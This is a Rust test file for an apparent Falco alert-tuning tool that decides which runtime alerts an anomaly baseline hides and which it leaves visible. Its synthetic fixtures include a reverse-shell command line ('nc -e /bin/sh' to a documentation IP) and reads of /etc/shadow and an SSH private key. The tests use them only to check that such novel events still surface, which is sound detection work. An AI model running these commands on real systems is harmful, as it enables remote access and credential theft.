//! Which alerts say how novel they are, and which are asked of a baseline.

use super::*;

#[test]
fn who_is_not_known_or_learning_is_not_recommended_and_why() {
    let mut alerts = String::new();
    for number in 0..100 {
        let at = f64::from(number);
        alerts += &alert("Learning", at, execution("web", "id", (number % 2 == 0).then_some("0.0000")));
        let mut container = execution("web", "id", None);
        let fields = container.as_object_mut().expect("an object");
        fields.retain(|key, _| !key.starts_with("anomaly."));
        fields.insert("container.id".into(), json!("3ad7b26ded6d"));
        alerts += &alert("Unknown", at, container.clone());
        let fields = container.as_object_mut().expect("an object");
        fields.insert("container.image.repository".into(), json!("nginx"));
        alerts += &alert("Unsaid", at, container);
        // The process's score says nothing of what it opened.
        let open = json!({"evt.type": "openat", "proc.name": "cat", "fd.name": "/etc/shadow", "anomaly.score": "0.0000"});
        alerts += &alert("Open", at, open);
        let audit = alert("Audit", at, execution("web", "id", Some("0.0000")));
        alerts += &audit.replace("\"source\":\"syscall\"", "\"source\":\"k8s_audit\"");
        let mostly = execution("web", "id", (number % 25 != 0).then_some("0.0000"));
        alerts += &alert("Mostly", at, mostly);
    }
    let folder = Folder::new();
    let file = folder.file("alerts.jsonl", alerts);
    let ran = run(tune(&["--json"]).arg(&file)).succeeded();
    let report = report(&ran);
    for (name, counts, why) in [
        ("Learning", json!([50, 50, 0, 0]), "being learned"),
        ("Unknown", json!([0, 0, 100, 0]), "not known"),
        ("Unsaid", json!([0, 0, 0, 100]), "append anomaly.score and anomaly.event_score"),
        ("Open", json!([0, 0, 0, 100]), "append anomaly.score and anomaly.event_score"),
        ("Audit", json!([100, 0, 0, 0]), "no system calls"),
        ("Mostly", json!([96, 4, 0, 0]), ""),
    ] {
        let rule = rule(&report, name);
        let counted =
            ["hidden", "learning", "unknown_workload", "unsaid"].map(|key| rule[key].clone()).to_vec();
        assert_eq!(Value::Array(counted), counts, "{name}");
        assert_eq!(rule["advice"]["recommended"], why.is_empty(), "{name}");
        assert!(rule["advice"]["why_not"].to_string().contains(why), "{name}: {}", rule["advice"]);
    }
    assert_eq!(rule(&report, "Unsaid")["workloads"][0]["workload"], "docker.io/library/nginx");
    assert_eq!(rule(&report, "Open")["workloads"][0]["workload"], "host");
    let write = |name: &str| {
        run(tune(&["--force", "--rule", name, "--write"]).arg(folder.path("gates.yaml")).arg(&file))
    };
    write("Audit").failed_with(&["not about system calls", "Falco would not start"]);
    let ran = write("Learning").succeeded();
    assert!(ran.err.contains("gated though it is not recommended"), "{}", ran.err);
    let nothing =
        folder.file("unknown.jsonl", alert("Unknown", 0.0, json!({"container.id": "3ad7b26ded6d"})));
    let ran = run(tune(&["--all-noisy", "--write"]).arg(folder.path("none.yaml")).arg(nothing));
    ran.failed_with(&["no rule is recommended"]);
}

/// Acts are learned for a day at least, so the first of seven days has no scores: no reason to wait for another week.
#[test]
fn what_was_learned_in_the_meantime_is_recommended() {
    let mut alerts = String::new();
    for hour in 0..7 * 24 {
        for _ in 0..5 {
            let score = (hour >= 24).then_some("0.0000");
            alerts +=
                &alert(CONTACT, f64::from(hour) * 3600.0, connection("web", "nginx", "10.96.0.1:443", score));
        }
    }
    let learned = report(&run_with(&mut tune(&["--json"]), alerts.as_bytes()).succeeded());
    let rule = rule(&learned, CONTACT);
    assert_eq!((&rule["learning"], &rule["hidden"]), (&120.into(), &720.into()));
    assert_eq!(
        (&rule["advice"]["recommended"], &rule["workloads"][0]["is_learning"]),
        (&true.into(), &false.into())
    );
    // One that was learned and is being learned again, as after its database was lost.
    for number in 0..300 {
        alerts += &alert(
            CONTACT,
            7.0 * 86_400.0 + f64::from(number),
            connection("web", "nginx", "10.96.0.1:443", None),
        );
    }
    let lost = report(&run_with(&mut tune(&["--json"]), alerts.as_bytes()).succeeded());
    let advice = &self::rule(&lost, CONTACT)["advice"];
    assert!(advice["why_not"][0].as_str().is_some_and(|why| why.contains("being learned (web)")), "{advice}");
}

/// Where Falco did not print a score, a baseline knows what it would have been.
#[test]
fn what_lacks_a_score_is_scored_by_the_baseline_and_said_to_be_so() {
    let folder = Folder::new();
    let data = folder.path("data");
    let recording = folder.recording("week.jsonl", &web_week("docker.io/library/web"));
    run(replay(&recording).arg("--data").arg(&data)).succeeded();
    let mut alerts = String::new();
    let fields = |line: &str, parent: &str| {
        let mut fields = Map::new();
        let (exe, args) = line.split_once(' ').unwrap_or((line, ""));
        for (key, value) in [
            ("evt.type", "execve"),
            ("container.id", "3ad7b26ded6d"),
            ("container.image.repository", "web"),
            ("proc.name", exe.rsplit('/').next().unwrap_or_default()),
            ("proc.exe", exe),
            ("proc.args", args),
            ("proc.cmdline", line),
            ("proc.pname", parent),
            ("proc.aname[2]", "systemd"),
            ("user.uid", "33"),
        ] {
            fields.insert(key.to_owned(), json!(value));
        }
        Value::Object(fields)
    };
    for number in 0..50 {
        alerts += &alert(SHELL, f64::from(number), fields("/opt/mon/check.sh 8080", "sh"));
    }
    alerts += &alert(SHELL, 60.0, fields("nc -e /bin/sh 203.0.113.9 4444", "nginx"));
    let mut elsewhere = fields("id", "sh");
    elsewhere["container.image.repository"] = json!("another");
    alerts += &alert(SHELL, 70.0, elsewhere);
    let file = folder.file("alerts.jsonl", alerts);
    let ran = run(tune(&["--json", "--data"]).arg(&data).arg(&file)).succeeded();
    let report = report(&ran);
    let shell = rule(&report, SHELL);
    assert_eq!((&shell["scores_printed"], &shell["scores_from_baseline"]), (&0.into(), &51.into()));
    assert_eq!((&shell["hidden"], &shell["unknown_workload"]), (&50.into(), &1.into()), "{shell}");
    let remains = shell["would_remain"].as_array().expect("a list");
    assert!(
        remains.iter().any(|group| group["program"] == "nginx > nc" && group["fate"] == "novel"),
        "{shell}"
    );
    let ran = run(tune(&["--data"]).arg(&data).arg(&file)).succeeded();
    assert!(ran.out.contains("51 alerts scored from output fields by the baseline"), "{}", ran.out);
    let without = run(tune(&["--json"]).arg(&file)).succeeded();
    assert_eq!(rule(&self::report(&without), SHELL)["unsaid"], 52);
    run(tune(&["--data"]).arg(folder.path("nothing")).arg(&file)).failed_with(&["nothing"]);
}

/// The same for what programs do: what is not printed is taken for the best known that it may have been.
#[test]
fn acts_that_lack_a_score_are_asked_of_the_baseline_too() {
    let folder = Folder::new();
    let data = folder.path("data");
    let mut recording = String::new();
    for hour in 0..7 * 24 {
        for (kind, object, flags) in [("open", "/etc/passwd", "read"), ("connect", "10.96.0.1:443", "tcp")] {
            let line = json!({
                "workload": "docker.io/library/web", "time": START + f64::from(hour) * 3600.0, "name": "nginx",
                "parent": "nginx", "uid": 33, "exe": "/usr/sbin/nginx", "kind": kind, "object": object, "flags": [flags],
            });
            writeln!(recording, "{line}").expect("a string");
        }
    }
    run(replay(&folder.file("acts.jsonl", recording)).arg("--data").arg(&data)).succeeded();

    let mut alerts = String::new();
    let mut add = |rule: &str, count: u32, event: &str, name: &str, file: &str| {
        for number in 0..count {
            let fields = json!({
                "evt.type": event, "container.id": "3ad7b26ded6d", "container.image.repository": "web",
                "proc.name": name, "proc.pname": "nginx", "proc.exepath": "/usr/sbin/nginx", "user.uid": 33,
                "fd.name": file, "anomaly.score": "0.0000",
            });
            alerts += &alert(rule, f64::from(number), fields);
        }
    };
    add("Reads", 40, "openat", "nginx", "/etc/passwd");
    add("Reads", 1, "openat", "nginx", "/root/.ssh/id_rsa");
    add("Talks", 40, "connect", "nginx", "10.244.1.7:40112->10.96.0.1:443");
    add("Talks", 1, "connect", "nginx", "10.244.1.7:40112->203.0.113.9:4444");
    add("Traces", 1, "ptrace", "nginx", "");
    add("Takes", 1, "accept4", "nginx", "203.0.113.9:40112->10.244.1.7:443");
    let file = folder.file("alerts.jsonl", alerts);
    let ran = run(tune(&["--json", "--data"]).arg(&data).arg(&file)).succeeded();
    let report = report(&ran);
    for (name, hidden, novel) in
        [("Reads", 40, "openat /root/.ssh/id_rsa"), ("Talks", 40, "connect 203.0.113.9:4444")]
    {
        let rule = rule(&report, name);
        assert_eq!((&rule["hidden"], &rule["scores_from_baseline"]), (&hidden.into(), &41.into()), "{rule}");
        let remains = &rule["would_remain"][0];
        assert_eq!((&remains["fate"], &remains["object"]), (&"novel".into(), &novel.into()), "{rule}");
    }
    // Whom it traced is not printed; a kind of which nothing is known is learned first.
    assert_eq!(rule(&report, "Traces")["unsaid"], 1);
    assert_eq!(rule(&report, "Takes")["learning"], 1);
}
